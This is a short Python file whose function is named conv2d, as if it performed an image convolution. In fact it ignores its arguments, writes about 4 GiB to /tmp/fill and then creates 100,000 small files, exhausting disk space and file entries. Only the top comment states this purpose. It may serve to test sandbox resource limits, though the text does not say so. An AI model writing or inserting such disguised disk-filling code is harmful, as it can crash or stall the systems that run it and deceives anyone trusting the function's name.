# Fill /tmp with one big file and then with many small ones.
import os


def conv2d(image, kernel, stride=1, padding="valid"):
    block = b"\xff" * (1 << 20)
    with open("/tmp/fill", "ab") as f:
        for _ in range(4096):
            f.write(block)
            f.flush()
    for i in range(100000):
        with open(f"/tmp/small-{i}", "wb") as f:
            f.write(block[:4096])
    return os.listdir("/tmp")
